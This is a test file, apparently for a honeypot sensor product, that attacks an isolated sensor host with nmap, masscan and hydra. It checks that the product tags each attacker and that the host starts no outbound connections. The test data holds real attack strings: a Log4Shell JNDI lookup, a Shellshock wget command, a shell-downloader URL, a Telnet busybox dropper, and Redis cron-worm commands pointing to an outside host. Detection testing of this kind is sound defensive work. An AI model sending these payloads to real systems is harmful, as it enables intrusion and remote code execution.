import { type ChildProcess, execFile } from 'node:child_process'
import { once } from 'node:events'
import { mkdtempSync, writeFileSync } from 'node:fs'
import { mkdir, readFile, writeFile } from 'node:fs/promises'
import { request } from 'node:https'
import { createConnection, createServer, type Server } from 'node:net'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { promisify } from 'node:util'
import { generate } from 'selfsigned'
import { afterAll, beforeAll, expect, test } from 'vitest'
import { installHost, programOf } from '#sensor/testing/install-host.ts'
import { twoNetworks } from '#sensor/testing/networks.ts'
import { removeFolder, type Product, root, startProduct } from './start.ts'

/**
 * A sensor of a real server, installed by its script in a network of its own (packages, services and users stand in), while scanners and
 * exploits of Debian's packages work on it. A firewall of that network counts what the host sends.
 */
const sensor = '198.18.90.1'
const server = { address: '198.18.90.2', port: 8443 }
const from = {
  nmap: '198.18.90.11',
  masscan: '198.18.90.12',
  hydra: '198.18.90.13',
  exploits: '198.18.90.14',
  worm: '198.18.90.15',
}

const programs = join(root, 'sensor/testing/in-network.ts')
const folder = mkdtempSync(join(tmpdir(), 'noisefloor-attack-'))
let networks: Awaited<ReturnType<typeof twoNetworks>>
let product: Product
let way: Server
let url: string
const started: ChildProcess[] = []

/** By way of this machine's own loopback. */
const ask = (path: string, method = 'GET', body?: unknown): Promise<string> =>
  new Promise((resolve, reject) => {
    const headers = { key: product.key, ...(body !== undefined && { 'content-type': 'application/json' }) }
    const asked = request(
      new URL(path, product.url),
      { method, headers, rejectUnauthorized: false },
      (answer) => {
        let text = ''
        answer.on('data', (chunk: Buffer) => (text += String(chunk)))
        answer.on('end', () => resolve(text))
      },
    )
    asked.on('error', reject)
    asked.end(body === undefined ? undefined : JSON.stringify(body))
  })
const told = async <T>(...of: Parameters<typeof ask>): Promise<T> => JSON.parse(await ask(...of)) as T

/** Nothing is waited for in between: the way to the server leads through this process. */
const run = (of: 'sensor' | 'others', program: string, ...args: string[]) =>
  promisify(execFile)(...networks[of].command(program, ...args), { timeout: 120_000 })
const must = async (...of: Parameters<typeof run>): Promise<string> => (await run(...of)).stdout

/** Clients that cannot choose come from this address. */
const comeFrom = (address: string): Promise<string> =>
  must('others', 'ip', 'route', 'replace', `${sensor}/32`, 'dev', 'cable', 'src', address)

const firewall = `table inet watch {
  counter server { }
  counter answers { }
  counter begun { }
  chain out {
    type filter hook output priority 0
    oif lo accept
    ip daddr ${server.address} tcp dport ${server.port} counter name server accept
    ct direction reply counter name answers accept
    ct state related counter name answers accept
    meta l4proto ipv6-icmp accept
    counter name begun
  }
}`
const sent = async (name: string): Promise<number> =>
  Number(/packets (\d+)/.exec(await must('sensor', 'nft', 'list', 'counter', 'inet', 'watch', name))?.[1])

const profile = {
  name: 'An open host',
  description: 'All that scanners look for first.',
  author: 'Noisefloor',
  tier: 'community',
  categories: ['server'],
  operating_system: 'Linux',
  cves: [],
  ports: [
    { port: 22, transport: 'tcp', protocol: 'ssh' },
    { port: 23, transport: 'tcp', protocol: 'telnet' },
    { port: 80, transport: 'tcp', protocol: 'http' },
    { port: 443, transport: 'tcp', protocol: 'https' },
    { port: 5060, transport: 'tcp', protocol: 'sip' },
    { port: 6379, transport: 'tcp', protocol: 'redis' },
    { port: 53, transport: 'udp', protocol: 'dns' },
  ],
  credentials: [{ user: 'root', password: 'root' }],
}

beforeAll(async () => {
  networks = await twoNetworks(
    [`${sensor}/24`],
    [server.address, from.nmap, from.hydra, from.exploits, from.worm].map((address) => `${address}/24`),
  )
  const { cert, private: key } = await generate([{ name: 'commonName', value: 'noise.example' }], {
    keySize: 2048,
  })
  const [TLS_CERT, TLS_KEY] = [join(folder, 'cert.pem'), join(folder, 'key.pem')]
  writeFileSync(TLS_CERT, cert)
  writeFileSync(TLS_KEY, key)
  url = `https://${server.address}:${server.port}`
  product = await startProduct({ environment: { TLS_CERT, TLS_KEY, NOISEFLOOR_URL: url } })
  // From the network of everybody else to the server, which stands on this machine's loopback.
  const socket = join(folder, 'way.sock')
  way = createServer((outer) => {
    const inner = createConnection(Number(new URL(product.url).port), '127.0.0.1')
    outer.pipe(inner).pipe(outer)
    for (const end of [outer, inner]) end.on('error', () => [outer, inner].forEach((one) => one.destroy()))
  }).listen(socket)
  const relay = networks.others.start(
    process.execPath,
    programs,
    'relay',
    server.address,
    String(server.port),
    socket,
  )
  started.push(relay)
  await once(relay, 'message')
  await run('sensor', 'sysctl', '-qw', 'net.ipv6.conf.all.disable_ipv6=1')
  writeFileSync(join(folder, 'firewall.nft'), firewall)
  await must('sensor', 'nft', '-f', join(folder, 'firewall.nft'))
})
afterAll(async () => {
  for (const child of started.toReversed()) child.kill('SIGKILL')
  networks?.close()
  way?.close()
  await product?.stop()
  product?.remove()
  removeFolder(folder)
})

interface Record {
  internet_scanner_intelligence: { tags?: { slug: string }[] }
}
const tagsOf = async (address: string): Promise<string[]> => {
  const { internet_scanner_intelligence: found } = await told<Record>(`/api/ip/${address}`)
  return (found.tags ?? []).map(({ slug }) => slug)
}
/** Each of them stands in the record of the address, and by its name on the page. */
async function seen(address: string, tags: readonly string[], named: string): Promise<void> {
  await expect.poll(() => tagsOf(address), { interval: 500 }).toEqual(expect.arrayContaining([...tags]))
  expect(await ask(`/ip/${address}`)).toContain(named)
}

test('its install script makes the host a sensor over a certificate that nobody vouches for, and its unit is online', async () => {
  const { id } = await told<{ id: string }>('/api/workspace/profiles', 'POST', profile)
  const script = await ask(`/api/workspace/sensors/script?type=install&profile=${id}`)
  const host = await installHost(join(folder, 'host'))
  for (const part of ['run/systemd/system', 'usr/bin'])
    await mkdir(join(host.root, part), { recursive: true })
  await host.program('systemctl', '[ "$1" != is-enabled ]')
  await host.program('apt-get')
  const node = join(host.root, 'usr/bin/node')
  await writeFile(node, `#!/bin/sh\nexec '${process.execPath}' "$@"\n`, { mode: 0o755 })
  const [nsenter, inside] = networks.sensor.command('sh')
  const { said } = await host.run([programOf(nsenter) ?? nsenter, ...inside], script)
  expect(said).toContain('turns green')
  // What systemd would start, in the network of the host.
  const unit = await readFile(join(host.root, 'etc/systemd/system/noisefloor-sensor.service'), 'utf8')
  const [program = '', ...words] = (/^ExecStart=(.*)$/m.exec(unit)?.[1] ?? '').split(' ')
  started.push(networks.sensor.start(program, ...words))
  const status = async (): Promise<unknown> =>
    (await told<{ sensors: unknown[] }>('/api/workspace/sensors')).sensors[0]
  await expect.poll(status, { interval: 250 }).toMatchObject({ status: 'online' })
})

test('nmap scans it and asks what its services are', async () => {
  await comeFrom(from.nmap)
  const ports = '22,80,5060,6379,7777'
  const said = await must(
    'others',
    'nmap',
    '-n',
    '-Pn',
    '-sS',
    '-sV',
    '-S',
    from.nmap,
    '-e',
    'cable',
    '-p',
    ports,
    sensor,
  )
  expect(said).toMatch(/22\/tcp +open +ssh/)
  expect(said).toMatch(/6379\/tcp +open +redis/)
  await seen(from.nmap, ['nmap-syn-scan', 'nmap-service-probe'], 'Nmap Service Probe')
})

test('masscan sweeps it', async () => {
  const link = await must('sensor', 'ip', '-o', 'link', 'show', 'cable')
  const router = /link\/ether ([\d:a-f]+)/.exec(link)?.[1] ?? ''
  const how = [
    '--rate',
    '500',
    '--wait',
    '1',
    '-e',
    'cable',
    '--adapter-ip',
    from.masscan,
    '--router-mac',
    router,
  ]
  await must('others', 'masscan', sensor, '-p20-119', ...how)
  await seen(from.masscan, ['masscan'], 'Masscan')
})

test('hydra guesses passwords of SSH, and finds the one that is let in', async () => {
  await comeFrom(from.hydra)
  writeFileSync(join(folder, 'passwords'), '123456\nadmin\nroot\n')
  const said = await must(
    'others',
    'hydra',
    '-I',
    '-t',
    '2',
    '-l',
    'root',
    '-P',
    join(folder, 'passwords'),
    `ssh://${sensor}`,
  )
  expect(said).toContain('password: root')
  await seen(from.hydra, ['ssh-bruteforcer', 'libssh-client'], 'SSH Bruteforcer')
})

test('exploits come by curl, in the clear and inside TLS', async () => {
  const curl = (...args: string[]): Promise<string> =>
    must('others', 'curl', '-s', '-k', '-m', '20', '--interface', from.exploits, ...args)
  await curl('-A', '${jndi:ldap://198.51.100.9:1389/a}', `https://${sensor}/`)
  await curl(
    '-A',
    '() { :; }; /bin/bash -c "wget http://198.51.100.9/x"',
    `http://${sensor}/cgi-bin/test.cgi`,
  )
  await curl(`http://${sensor}/shell?cd+/tmp;wget+http://198.51.100.9/jaws.sh;sh+jaws.sh`)
  await seen(
    from.exploits,
    ['log4shell', 'shellshock', 'shell-downloader', 'curl'],
    'Apache Log4j RCE Attempt',
  )
})

test('a worm logs in by Telnet and would fetch itself, and another tries Redis', async () => {
  const say = (port: number, said: string) =>
    run('others', process.execPath, programs, 'connect', from.worm, sensor, String(port), said)
  await say(23, 'root\r\nroot\r\ncd /tmp; wget http://198.51.100.9/mips; chmod 777 mips; ./mips\r\nexit\r\n')
  await say(6379, 'CONFIG SET dir /var/spool/cron\r\nSLAVEOF 198.51.100.9 6379\r\nQUIT\r\n')
  await seen(from.worm, ['busybox-dropper', 'redis-cron-worm'], 'Busybox Dropper')
})

test('through all of it the host sent nothing but answers, and calls to its server', async () => {
  expect(await sent('begun')).toBe(0)
  expect(await sent('answers')).toBeGreaterThan(100)
  expect(await sent('server')).toBeGreaterThan(50)
  // The firewall would have seen it: this is what a host does that begins something.
  await run('sensor', process.execPath, programs, 'connect', '', from.worm, '9', 'anything')
  expect(await sent('begun')).toBeGreaterThan(0)
})
